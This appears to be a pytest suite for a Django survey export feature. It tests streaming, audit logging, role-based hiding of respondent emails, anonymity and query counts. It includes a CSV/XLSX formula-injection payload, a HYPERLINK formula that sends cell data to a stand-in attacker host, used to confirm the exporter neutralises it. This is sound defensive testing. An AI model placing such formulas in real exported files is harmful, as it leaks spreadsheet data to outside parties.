"""The download page and the files: streamed, audited, formula-safe, identity by role, and a
query count per chunk of responses that does not grow with the survey."""

import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from surveys import exports
from surveys.models import ResponseStatus
from workspaces.models import AuditEntry

from .builders import SAMPLE_PAGES, make_survey, url
from .exports_helpers import as_dicts, download, read_csv, respond

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def survey(workspace, manager):
    return make_survey(workspace, manager, pages=SAMPLE_PAGES, title="Travel")


def export_url(survey, **options):
    query = {"format": "csv", "status": "complete", "headings": "codes", "values": "codes", **options}
    return url("export", survey.workspace, pk=survey.pk) + "?" + "&".join(f"{k}={v}" for k, v in query.items())


def test_the_page_offers_the_options_without_downloading(as_user, manager, survey):
    response = as_user(manager).get(url("export", survey.workspace, pk=survey.pk))
    assert response.status_code == 200
    body = response.content.decode()
    assert 'name="format"' in body and 'name="status"' in body and "codebook" in body
    assert not AuditEntry.objects.filter(action="survey.responses_exported").exists()


def test_a_bad_option_is_shown_next_to_the_field_never_a_500(as_user, manager, survey):
    response = as_user(manager).get(export_url(survey, format="pdf"))
    assert response.status_code == 400
    body = response.content.decode()
    assert "There is a problem" in body and "Select a valid choice" in body


def test_csv_is_streamed_audited_and_formula_safe(as_user, manager, reader, survey):
    respond(survey, answers={"Q1": "o1", "Q6": HOSTILE, "Q4": [("other", "@SUM(1+1)")]}, respondent=reader,
            source="-newsletter")
    response = as_user(manager).get(export_url(survey))
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    (row,) = as_dicts(read_csv(download(response)))
    assert row["Q6"] == "'" + HOSTILE and row["Q4_other"] == "'@SUM(1+1)" and row["source"] == "'-newsletter"
    assert row["respondent"] == reader.name and row["email"] == reader.email  # a manager sees contacts
    entry = AuditEntry.objects.get(action="survey.responses_exported")
    assert entry.actor == manager and entry.target_id == str(survey.pk)
    assert entry.after["status"] == "complete" and entry.after["email"] is True


def test_xlsx_keeps_hostile_text_as_text(as_user, manager, survey):
    respond(survey, answers={"Q1": "o1", "Q6": HOSTILE})
    response = as_user(manager).get(export_url(survey, format="xlsx", values="labels", headings="text"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(download(response))).active
    header, row = list(sheet.iter_rows(values_only=True))
    values = dict(zip(header, row, strict=True))
    assert values["Anything else?"] == HOSTILE and values["Do you cycle to work?"] == "Yes"
    cell = next(c for c in sheet[2] if c.value == HOSTILE)
    assert cell.data_type == "s" and cell.quotePrefix


def test_who_lacks_contact_rights_gets_names_only(as_user, workspace, manager, contributor, reader):
    survey = make_survey(workspace, manager, pages=SAMPLE_PAGES, change_access="members")  # contributors analyse
    respond(survey, answers={"Q1": "o1"}, respondent=reader)
    (row,) = as_dicts(read_csv(download(as_user(contributor).get(export_url(survey)))))
    assert row["respondent"] == reader.name and "email" not in row
    assert reader.email not in str(row)


def test_an_anonymous_survey_exports_no_identity(as_user, workspace, manager, reader):
    survey = make_survey(workspace, manager, pages=SAMPLE_PAGES, anonymous=True)
    respond(survey, answers={"Q1": "o1"}, respondent=reader)
    data = download(as_user(manager).get(export_url(survey)))
    header = read_csv(data)[0]
    assert "respondent" not in header and "email" not in header
    assert reader.email.encode() not in data and reader.name.encode() not in data


def test_the_status_filter_reaches_the_file(as_user, manager, survey):
    respond(survey, answers={"Q1": "o1"})
    partial = respond(survey, answers={"Q1": "o2"}, status=ResponseStatus.IN_PROGRESS)
    rows = as_dicts(read_csv(download(as_user(manager).get(export_url(survey, status="partial")))))
    assert [(int(r["response"]), r["status"]) for r in rows] == [(partial.pk, "partial")]


def test_the_codebook_downloads(as_user, manager, survey):
    response = as_user(manager).get(url("codebook", survey.workspace, pk=survey.pk))
    table = read_csv(download(response))
    assert table[0] == list(exports.CODEBOOK_HEADER)
    assert [row[0] for row in table[1:]] == ["Q1", "Q2", "Q3", "Q4", "Q5", "Q6"]


def _queries_of_download(client, survey, *, whole=False):
    """The queries of streaming the file (with whole, of the request too)."""
    with CaptureQueriesContext(connection) as request_queries:
        response = client.get(export_url(survey, values="labels"))
    with CaptureQueriesContext(connection) as captured:
        data = download(response)
    return len(captured) + (len(request_queries) if whole else 0), data


@pytest.mark.parametrize("responses", [3, 11])
def test_streaming_costs_two_queries_a_chunk(as_user, manager, survey, monkeypatch, responses):
    from surveys import exports_copy

    monkeypatch.setattr(exports_copy, "available", lambda: False)  # the Python path (XLSX, SQLite)
    monkeypatch.setattr(exports, "CHUNK", 4)
    for n in range(responses):
        respond(survey, answers={"Q1": "o1", "Q4": ["o1", "o2"], "Q5": {"r1": "c1"}, "Q6": f"answer {n}"})
    count, data = _queries_of_download(as_user(manager), survey)
    chunks = -(-responses // 4)
    # Per chunk its responses and their answers (the columns' plan is read before streaming).
    assert count == 2 * chunks
    assert len(read_csv(data)) == responses + 1


def test_a_download_costs_the_same_at_two_sizes_within_a_chunk(as_user, manager, survey, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 1000)
    client = as_user(manager)
    respond(survey, answers={"Q1": "o1"})
    _queries_of_download(client, survey)  # the first request of a session caches what it may
    small, _ = _queries_of_download(client, survey, whole=True)
    for _ in range(30):
        respond(survey, answers={"Q1": "o2", "Q6": "more"})
    large, _ = _queries_of_download(client, survey, whole=True)
    assert small == large
